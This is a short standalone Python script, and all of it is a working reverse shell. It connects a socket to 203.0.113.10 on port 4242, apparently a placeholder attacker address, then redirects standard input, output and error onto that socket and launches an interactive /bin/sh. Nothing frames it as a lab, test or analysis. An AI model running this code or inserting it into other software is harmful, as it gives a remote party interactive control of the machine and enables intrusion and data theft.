import socket, subprocess, os
s = socket.socket()
s.connect(('203.0.113.10', 4242))
[os.dup2(s.fileno(), f) for f in (0, 1, 2)]
subprocess.call(['/bin/sh', '-i'])
